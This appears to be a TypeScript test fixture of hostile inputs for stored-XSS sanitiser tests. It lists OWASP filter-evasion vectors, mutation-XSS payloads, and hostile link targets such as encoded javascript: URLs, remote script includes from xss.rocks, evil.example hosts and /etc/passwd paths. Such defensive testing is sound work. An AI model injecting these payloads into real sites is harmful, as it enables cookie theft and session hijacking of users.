/**
 * Hostile inputs for the stored-XSS tests. OWASP_XSS_VECTORS are classic vectors from the OWASP
 * Cheat Sheet Series' "XSS Filter Evasion Cheat Sheet"
 * (cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html), grouped by that
 * sheet's section names and written from memory (spellings may differ slightly from the sheet),
 * plus three mutation-XSS vectors (foreign-content namespace confusion) marked as such.
 */

/** OWASP XSS Filter Evasion Cheat Sheet vectors, by the sheet's section names. */
export const OWASP_XSS_VECTORS: string[] = [
  // Basic XSS test without filter evasion; XSS locator (polyglot)
  `<SCRIPT SRC=http://xss.rocks/xss.js></SCRIPT>`,
  `javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+alert(1)//'>`,
  // Image XSS using the JavaScript directive; no quotes; case insensitive; HTML entities
  `<IMG SRC="javascript:alert('XSS');">`,
  `<IMG SRC=javascript:alert('XSS')>`,
  `<IMG SRC=JaVaScRiPt:alert('XSS')>`,
  `<IMG SRC=javascript:alert(&quot;XSS&quot;)>`,
  "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
  // Malformed A tags; malformed IMG tags; fromCharCode
  `\\<a onmouseover="alert(document.cookie)"\\>xxs link\\</a\\>`,
  `<a onmouseover=alert(document.cookie)>xxs link</a>`,
  `<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>`,
  `<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>`,
  // Default SRC tag to get past filters; leaving it empty; leaving it out; on error alert
  `<IMG SRC=# onmouseover="alert('xxs')">`,
  `<IMG SRC= onmouseover="alert('xxs')">`,
  `<IMG onmouseover="alert('xxs')">`,
  `<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>`,
  `<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">`,
  // Decimal, long decimal without semicolons, hexadecimal HTML character references
  `<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>`,
  `<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041>`,
  `<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>`,
  // Embedded tab, encoded tab, encoded newline, encoded carriage return; null breaks; spaces and meta chars
  `<IMG SRC="jav\tascript:alert('XSS');">`,
  `<IMG SRC="jav&#x09;ascript:alert('XSS');">`,
  `<IMG SRC="jav&#x0A;ascript:alert('XSS');">`,
  `<IMG SRC="jav&#x0D;ascript:alert('XSS');">`,
  `<IMG SRC=java\u0000script:alert("XSS")>`,
  `<IMG SRC=" &#14;  javascript:alert('XSS');">`,
  // Non-alpha-non-digit XSS; extraneous open brackets; no closing script tag; half open HTML
  `<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>`,
  "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>",
  `<SCRIPT/SRC="http://xss.rocks/xss.js"></SCRIPT>`,
  `<<SCRIPT>alert("XSS");//\\<</SCRIPT>`,
  `<SCRIPT SRC=http://xss.rocks/xss.js?< B >`,
  `<SCRIPT SRC=//xss.rocks/.j>`,
  `<IMG SRC="\`<javascript:alert>\`('XSS')"`,
  `<iframe src=http://xss.rocks/scriptlet.html <`,
  // Escaping JavaScript escapes; end title tag; INPUT image; BODY image; IMG dynsrc / lowsrc
  `\\";alert('XSS');//`,
  `</script><script>alert('XSS');</script>`,
  `</TITLE><SCRIPT>alert("XSS");</SCRIPT>`,
  `<INPUT TYPE="IMAGE" SRC="javascript:alert('XSS');">`,
  `<BODY BACKGROUND="javascript:alert('XSS')">`,
  `<IMG DYNSRC="javascript:alert('XSS')">`,
  `<IMG LOWSRC="javascript:alert('XSS')">`,
  // List-style-image; VBscript in an image; SVG object tag; BODY tag; BGSOUND; & JavaScript includes
  `<STYLE>li {list-style-image: url("javascript:alert('XSS')");}</STYLE><UL><LI>XSS</br>`,
  `<IMG SRC='vbscript:msgbox("XSS")'>`,
  `<svg/onload=alert('XSS')>`,
  `<BODY ONLOAD=alert('XSS')>`,
  `<BGSOUND SRC="javascript:alert('XSS');">`,
  `<BR SIZE="&{alert('XSS')}">`,
  // STYLE sheet; remote style sheet; META refresh (incl. data: URL); IFRAME; FRAME; TABLE; TD
  `<LINK REL="stylesheet" HREF="javascript:alert('XSS');">`,
  `<LINK REL="stylesheet" HREF="http://xss.rocks/xss.css">`,
  `<STYLE>@import'http://xss.rocks/xss.css';</STYLE>`,
  `<META HTTP-EQUIV="Link" Content="<http://xss.rocks/xss.css>; REL=stylesheet">`,
  `<STYLE>BODY{-moz-binding:url("http://xss.rocks/xssmoz.xml#xss")}</STYLE>`,
  `<STYLE>@im\\port'\\ja\\vasc\\ript:alert("XSS")';</STYLE>`,
  `<IMG STYLE="xss:expr/*XSS*/ession(alert('XSS'))">`,
  `<STYLE TYPE="text/javascript">alert('XSS');</STYLE>`,
  `<STYLE>.XSS{background-image:url("javascript:alert('XSS')");}</STYLE><A CLASS=XSS></A>`,
  `<STYLE type="text/css">BODY{background:url("javascript:alert('XSS')")}</STYLE>`,
  `<XSS STYLE="behavior: url(xss.htc);">`,
  `<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert('XSS');">`,
  `<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">`,
  `<META HTTP-EQUIV="refresh" CONTENT="0; URL=http://;URL=javascript:alert('XSS');">`,
  `<IFRAME SRC="javascript:alert('XSS');"></IFRAME>`,
  `<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>`,
  `<FRAMESET><FRAME SRC="javascript:alert('XSS');"></FRAMESET>`,
  `<TABLE BACKGROUND="javascript:alert('XSS')">`,
  `<TABLE><TD BACKGROUND="javascript:alert('XSS')">`,
  // DIV background-image (incl. unicode-escaped), DIV expression; downlevel-hidden block; BASE tag
  `<DIV STYLE="background-image: url(javascript:alert('XSS'))">`,
  `<DIV STYLE="background-image:\\0075\\0072\\006C\\0028'\\006a\\0061\\0076\\0061\\0073\\0063\\0072\\0069\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028.1027\\0058.1053\\0053\\0027\\0029'\\0029">`,
  `<DIV STYLE="width: expression(alert('XSS'));">`,
  `<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->`,
  `<BASE HREF="javascript:alert('XSS');//">`,
  // OBJECT tag; EMBED SVG (data: base64); XML data island; cookie manipulation; US-ASCII encoding
  `<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>`,
  `<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv" type="image/svg+xml" AllowScriptAccess="always"></EMBED>`,
  `<XML ID="xss"><I><B><IMG SRC="javas<!-- -->cript:alert('XSS')"></B></I></XML><SPAN DATASRC="#xss" DATAFLD="B" DATAFORMATAS="HTML"></SPAN>`,
  `<META HTTP-EQUIV="Set-Cookie" Content="USERID=<SCRIPT>alert('XSS')</SCRIPT>">`,
  `¼script¾alert(¢XSS¢)¼/script¾`,
  `<HTML><BODY><?xml:namespace prefix="t" ns="urn:schemas-microsoft-com:time"><?import namespace="t" implementation="#default#time2"><t:set attributeName="innerHTML" to="XSS&lt;SCRIPT DEFER&gt;alert(&quot;XSS&quot;)&lt;/SCRIPT&gt;"></BODY></HTML>`,
  // Assuming you can only fit in a few characters; script split across writes; A HREF obfuscation
  `<SCRIPT>document.write("<SCRI");</SCRIPT>PT SRC="httx://xss.rocks/xss.js"></SCRIPT>`,
  `<A HREF="javascript:document.location='http://www.example.com/'">XSS</A>`,
  `<A HREF="//www.example.com/">XSS</A>`,
  `<A HREF="http://0x42.0x0000066.0x7.0x93/">XSS</A>`,
  // Mutation XSS through foreign content (namespace confusion), a later addition to the genre
  `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`,
  `<svg><p><style><img src=1 href=1 onerror=alert(1)></style></p></svg>`,
  `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
];

/** Hostile link targets: schemes in disguise, broken out quotes, protocol-relative hosts. */
export const HOSTILE_HREFS: string[] = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  ' javascript:alert(1)',
  '\u0001javascript:alert(1)',
  'java\tscript:alert(1)',
  'java\nscript:alert(1)',
  '&#106;avascript:alert(1)',
  'javascript&colon;alert(1)',
  'vbscript:msgbox(1)',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'data:image/svg+xml,<svg onload=alert(1)>',
  'file:///etc/passwd',
  '//evil.example/',
  '/\\evil.example/',
  '\\\\evil.example\\share',
  'https://example.com/"onmouseover="alert(1)',
  "https://example.com/'onmouseover='alert(1)",
  'https://example.com/"><script>alert(1)</script>',
  'https://example.com/#<img src=x onerror=alert(1)>',
  'http://example.com/`onmouseover=alert(1)`',
  'mailto:x@example.com?body=<script>alert(1)</script>',
  'mailto:x@example.com"onclick="alert(1)',
  '/steels/aisi-d2" onclick="alert(1)',
  '/steels/../../etc/passwd',
  '/results/1?x=<script>',
  'https:\\\\evil.example',
  'https://evil.example/\u2028alert(1)',
];
